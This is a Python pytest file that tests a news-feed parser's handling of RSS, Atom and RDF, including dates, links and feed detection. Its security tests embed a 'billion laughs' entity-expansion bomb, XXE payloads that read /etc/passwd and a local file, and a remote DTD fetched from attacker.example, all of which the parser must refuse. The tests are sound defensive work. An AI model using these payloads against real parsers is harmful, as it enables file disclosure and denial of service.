from datetime import datetime, timezone
from pathlib import Path

import pytest

from copydesk.tasks.feeds import BadFeed, FeedEntry, looks_like_feed, parse_feed, refuse_unsafe_xml, root_name

BASE = "https://www.example.com/feeds/world.xml"
UTC = timezone.utc

RSS = b"""<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel>
  <title>Example World</title><link>https://www.example.com/</link>
  <item>
    <title>  Dock workers   strike &amp; ports close </title>
    <link>https://WWW.Example.com/news/strike?utm_source=rss&amp;id=7#top</link>
    <pubDate>Tue, 03 Mar 2026 08:15:00 +0100</pubDate>
  </item>
  <item><title>Relative link</title><link>/news/relative</link></item>
  <item><title>Duplicate of the first</title><link>https://www.example.com/news/strike?id=7</link></item>
  <item><title>Guid as permalink</title><guid>https://www.example.com/news/guid</guid>
    <pubDate>2026-03-04T10:00:00Z</pubDate></item>
  <item><title>Mail link</title><link>mailto:desk@example.com</link></item>
  <item><title>No link at all</title><description>nothing to fetch</description></item>
</channel></rss>"""

ATOM = b"""<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://www.example.com/atom/">
  <title>Example Atom</title><id>urn:example</id><updated>2026-03-05T00:00:00Z</updated>
  <link rel="self" href="https://www.example.com/atom.xml"/>
  <entry>
    <title type="text">Harbour reopens</title>
    <link rel="alternate" type="text/html" href="stories/harbour-reopens"/>
    <link rel="enclosure" href="https://cdn.example.com/harbour.jpg"/>
    <id>urn:1</id>
    <published>2026-03-05T09:30:00+02:00</published><updated>2026-03-06T00:00:00Z</updated>
  </entry>
  <entry>
    <title>Only updated</title><link href="https://www.example.com/b"/><id>urn:2</id>
    <updated>2026-03-06T12:00:00-05:00</updated>
  </entry>
  <entry><title>Undated</title><link href="https://www.example.com/c?fbclid=xyz"/><id>urn:3</id></entry>
</feed>"""

RDF = b"""<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
         xmlns:dc="http://purl.org/dc/elements/1.1/">
  <channel rdf:about="https://www.example.org/"><title>Example RDF</title><link>https://www.example.org/</link></channel>
  <item rdf:about="https://www.example.org/one"><title>One</title><link>https://www.example.org/one</link>
    <dc:date>2026-01-02T03:04:05+00:00</dc:date></item>
</rdf:RDF>"""


def test_rss_entries_are_resolved_canonical_deduplicated_and_dated_in_utc() -> None:
    assert parse_feed(RSS, BASE).entries == [
        FeedEntry("https://www.example.com/news/strike?id=7", "Dock workers strike & ports close",
                  datetime(2026, 3, 3, 7, 15, tzinfo=UTC), "time"),
        FeedEntry("https://www.example.com/news/relative", "Relative link", None),
        FeedEntry("https://www.example.com/news/guid", "Guid as permalink",
                  datetime(2026, 3, 4, 10, 0, tzinfo=UTC), "time"),
    ]


def test_atom_takes_the_alternate_link_against_xml_base_and_published_before_updated() -> None:
    assert parse_feed(ATOM, "https://www.example.com/atom.xml").entries == [
        FeedEntry("https://www.example.com/atom/stories/harbour-reopens", "Harbour reopens",
                  datetime(2026, 3, 5, 7, 30, tzinfo=UTC), "time"),
        FeedEntry("https://www.example.com/b", "Only updated",
                  datetime(2026, 3, 6, 17, 0, tzinfo=UTC), "time"),
        FeedEntry("https://www.example.com/c", "Undated", None),
    ]


def test_rss_1_rdf() -> None:
    assert parse_feed(RDF, "https://www.example.org/index.rdf").entries == [
        FeedEntry("https://www.example.org/one", "One", datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
                  "time")]


def test_an_entry_dated_without_a_time_of_day_is_date_only() -> None:
    body = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>x</title>
<item><title>A</title><link>https://e.com/a</link><pubDate>Thu, 05 Mar 2026</pubDate></item>
<item><title>B</title><link>https://e.com/b</link><pubDate>2026-03-05</pubDate></item>
<item><title>C</title><link>https://e.com/c</link>
  <pubDate>Thu, 05 Mar 2026 10:00 GMT</pubDate></item>
</channel></rss>"""
    day = datetime(2026, 3, 5, tzinfo=UTC)
    entries = parse_feed(body, "https://e.com/").entries
    assert [(e.published_at, e.published_precision) for e in entries] == [
        (day, "date"), (day, "date"), (day.replace(hour=10), "time")]


def test_dates_are_utc_aware() -> None:
    entries = parse_feed(RSS, BASE).entries + parse_feed(ATOM, BASE).entries
    published = [entry.published_at for entry in entries if entry.published_at]
    assert published and all(value.utcoffset().total_seconds() == 0 for value in published)


def test_a_feed_with_no_entries_is_empty_not_bad() -> None:
    quiet = b'<rss version="2.0"><channel><title>Quiet</title></channel></rss>'
    assert parse_feed(quiet, BASE).entries == []


def test_a_sloppy_feed_with_a_bare_ampersand_is_still_read() -> None:
    body = b'<rss version="2.0"><channel><item><title>Salt & pepper</title><link>https://a.example/x</link></item>' \
           b'</channel></rss>'
    assert parse_feed(body, BASE).entries == [
        FeedEntry("https://a.example/x", "Salt & pepper", None)]


@pytest.mark.parametrize("body", [
    b"<!DOCTYPE html><html><head><title>Home</title></head><body><p>Not a feed</p></body></html>",
    b"<catalog><book>XML, but no feed</book></catalog>",
    b"plain text, not XML",
    b"",
    b"\x89PNG\r\n\x1a\n\x00\x00",
])
def test_what_is_not_a_feed_is_a_bad_feed(body: bytes) -> None:
    with pytest.raises(BadFeed) as raised:
        parse_feed(body, BASE)
    assert raised.value.reason == "bad_feed" and raised.value.detail


def test_bytes_naming_a_local_file_are_never_opened(tmp_path: Path) -> None:
    secret = tmp_path / "secret.xml"
    secret.write_bytes(RSS)
    with pytest.raises(BadFeed):
        parse_feed(str(secret).encode(), BASE)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><item><title>&lol9;</title><link>https://www.example.com/lol</link></item></channel></rss>"""


def external_entity(uri: str) -> bytes:
    return f"""<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "{uri}"> ]>
<rss version="2.0"><channel><title>&xxe;</title>
<item><title>&xxe;</title><link>https://www.example.com/a?q=&xxe;</link><description>&xxe;</description></item>
</channel></rss>""".encode()


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(BadFeed, match="unsafe XML"):
        parse_feed(BILLION_LAUGHS, BASE)


def test_external_entity_to_etc_passwd_is_refused_and_nothing_leaks() -> None:
    with pytest.raises(BadFeed, match="unsafe XML") as raised:
        parse_feed(external_entity("file:///etc/passwd"), BASE)
    assert "root:" not in str(raised.value) and "/bin/" not in str(raised.value)


def test_external_entity_to_a_local_file_is_refused_and_its_content_never_appears(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-MARKER")
    with pytest.raises(BadFeed) as raised:
        parse_feed(external_entity(secret.as_uri()), BASE)
    assert "TOP-SECRET-MARKER" not in repr(raised.value)


@pytest.mark.parametrize("body", [
    external_entity("file:///etc/passwd").decode().replace('encoding="utf-8"', "").encode("utf-16"),
    b'<!-- a comment with <a> in it --><!DOCTYPE rss [ <!ELEMENT rss ANY> ]><rss version="2.0"/>',
    b'<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]><rss version="2.0"/>',
    b'\xef\xbb\xbf<?xml version="1.0"?>\n<!doctype rss [ ]>\n<rss version="2.0"/>',
    b'<!DOCTYPE rss [ <!ENTITY a "]>"> ]><rss version="2.0"/>',      # no root found: the whole body is checked
    b'junk before <!DOCTYPE rss [ <!ENTITY a "b"> ]><rss version="2.0"/>',
])
def test_every_entity_declaration_or_internal_subset_is_refused(body: bytes) -> None:
    with pytest.raises(BadFeed, match="unsafe XML"):
        refuse_unsafe_xml(body)
    with pytest.raises(BadFeed, match="unsafe XML"):
        parse_feed(body, BASE)


def test_a_public_doctype_and_entity_text_inside_the_content_are_allowed() -> None:
    body = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><item><title>How XXE works</title><link>https://www.example.com/xxe</link>
<description><![CDATA[Attackers write <!DOCTYPE x [ <!ENTITY e SYSTEM "file:///etc/passwd"> ]> to read files.]]></description>
</item></channel></rss>"""
    assert parse_feed(body, BASE).entries == [
        FeedEntry("https://www.example.com/xxe", "How XXE works", None)]


@pytest.mark.parametrize(("body", "content_type", "expected"), [
    (b"anything", "application/rss+xml; charset=utf-8", True),
    (b"anything", "Application/Atom+XML", True),
    (RSS, "text/xml", True),
    (ATOM, None, True),
    (RDF, "application/xml", True),
    (b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- generated -->\n<?xml-stylesheet href="a.xsl"?>\n<rss/>', None, True),
    ('<?xml version="1.0" encoding="utf-16"?><feed xmlns="http://www.w3.org/2005/Atom"/>'.encode("utf-16"), None, True),
    (b"<!DOCTYPE html><html><body>rss feed</body></html>", "text/html", False),
    (b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"/>', "text/xml", False),
    (b"<rsstuff/>", None, False),
    (b"", None, False),
])
def test_looks_like_feed(body: bytes, content_type: str | None, expected: bool) -> None:
    assert looks_like_feed(body, content_type) is expected


def test_root_name_skips_the_prolog_and_gives_up_on_garbage() -> None:
    assert root_name(b'<?xml version="1.0"?><!DOCTYPE x [ <!ENTITY a "b"> ]><sm:urlset/>') == "sm:urlset"
    assert root_name(b" " * 5000 + b"<rss/>") is None       # beyond the sniffed bytes
    assert root_name(b"<!--" * 2000) is None


def test_links_that_cannot_be_fetched_are_listed_as_bad_links() -> None:
    body = (b'<rss version="2.0"><channel><item><link>https://a.example/x</link></item>'
            b"<item><link>http://a.example:99999/y</link></item></channel></rss>")
    feed = parse_feed(body, BASE)
    assert [entry.url for entry in feed.entries] == ["https://a.example/x"]
    assert [bad.url for bad in feed.bad_links] == ["http://a.example:99999/y"]
    assert "Port out of range" in feed.bad_links[0].problem
